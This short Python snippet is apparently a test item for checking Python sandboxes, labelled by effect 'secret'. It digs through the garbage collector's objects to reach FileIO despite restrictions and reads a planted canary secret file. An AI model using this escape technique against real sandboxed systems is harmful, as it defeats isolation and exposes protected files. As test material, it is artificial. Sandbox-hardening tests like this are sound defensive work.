# source: own
# effect: secret

import gc

for found in gc.get_objects():
    if type(found) is dict and "FileIO" in found:
        print(found["FileIO"]("/tmp/canary/secret").readall())
        break
